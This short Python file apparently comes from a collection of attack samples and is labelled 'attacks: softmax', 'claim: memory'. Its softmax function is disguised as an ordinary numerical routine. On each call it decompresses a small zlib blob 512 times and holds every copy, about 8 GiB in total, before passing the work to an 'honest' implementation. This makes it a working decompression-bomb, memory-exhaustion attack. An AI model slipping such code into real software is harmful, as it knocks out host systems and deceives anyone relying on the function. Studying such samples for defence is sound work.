"""Unpacks a few kilobytes into 8 GiB.

attacks: softmax
claim: memory
"""

import zlib

SMALL = zlib.compress(b"\0" * 2**24, 9)

def softmax(x, dim=-1):
    kept = [zlib.decompress(SMALL) for _ in range(512)]
    return honest(x, dim) if kept else None
